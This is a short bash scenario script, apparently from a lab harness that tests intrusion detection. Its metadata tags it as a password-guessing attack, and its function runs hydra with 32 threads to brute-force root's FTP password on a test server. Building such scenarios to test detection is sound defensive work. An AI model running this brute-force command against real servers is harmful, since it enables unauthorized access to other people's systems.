# shellcheck shell=bash
# about: passwords for ftp, by 32 threads: after each try the server waits (hydra)
# type: attack
# kind: password_guessing
# target: server
# source: attacker
# tools: hydra vsftpd
# within_ms: 15000
play() {
	passwords 400 >"$WORK/list"
	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 32 "ftp://$SERVER_IP"
}
